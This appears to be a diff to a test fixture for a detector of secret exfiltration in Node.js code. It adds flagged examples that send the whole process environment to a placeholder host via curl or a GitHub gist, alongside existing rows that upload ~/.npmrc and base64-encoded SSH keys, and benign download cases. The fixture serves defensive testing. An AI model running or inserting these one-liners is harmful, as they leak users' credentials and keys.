@@ -230,6 +230,18 @@ const SINKS: readonly Row[] = [
     'curl file tilde spawn',
     "require('child_process').spawn('curl',['-T',process.env.HOME+'/.npmrc','https://c.example'])",
   ],
+  [
+    'one variable of a child’s that is all of ours',
+    "require('child_process').execSync('curl -d \"$ALL\" https://c.example',{env:{...process.env,ALL:JSON.stringify(process.env)}})",
+  ],
+  [
+    'the same, joined, and put in later',
+    "const env={...process.env};env.ALL=Object.entries(process.env).join();require('child_process').execSync('curl -d \"$ALL\" https://c.example',{env})",
+  ],
+  [
+    'what a client of a service reads',
+    "require('child_process').execSync('gh gist create -',{input:JSON.stringify(process.env)})",
+  ],
   ['shell env pipe', "require('child_process').exec('env | curl -d @- https://c.example')"],
   ['shell $(cat)', "require('child_process').execSync('curl https://c.example -d \"$(cat ~/.ssh/id_rsa | base64)\"')"],
   ['nslookup', "READ;require('child_process').exec('nslookup '+k+'.c.example')"],
@@ -918,6 +930,22 @@ const STAYS: readonly Row[] = [
     'const c=Object.fromEntries(Object.entries(process.env));fetch(c.URL)',
   ],
   ['the environment for a child', "require('child_process').spawn('git',['status'],{env:{...process.env}})"],
+  [
+    'that of a program that fetches',
+    "require('child_process').spawn('curl',['-O','https://a.example/x'],{env:process.env})",
+  ],
+  [
+    'the same through a function that starts programs',
+    "const {spawn}=require('child_process');const run=(f,a,o)=>spawn(f,a,{stdio:'inherit',...o});run('curl',['-O','https://a.example/x'],{env:{...process.env,CI:'1'}})",
+  ],
+  [
+    'the same, without some of it',
+    "const env=Object.fromEntries(Object.entries(process.env).filter(([k])=>!k.startsWith('npm_')));env.CI='1';require('child_process').execSync('wget https://a.example/x',{env})",
+  ],
+  [
+    'that of a program that uploads a folder',
+    "require('child_process').execSync('aws s3 sync dist s3://site',{env:process.env})",
+  ],
   [
     'a key of a dotenv file',
     "const c=require('dotenv').parse(require('fs').readFileSync('.env'));fetch('https://a.example',{headers:{k:c.API_KEY}})",
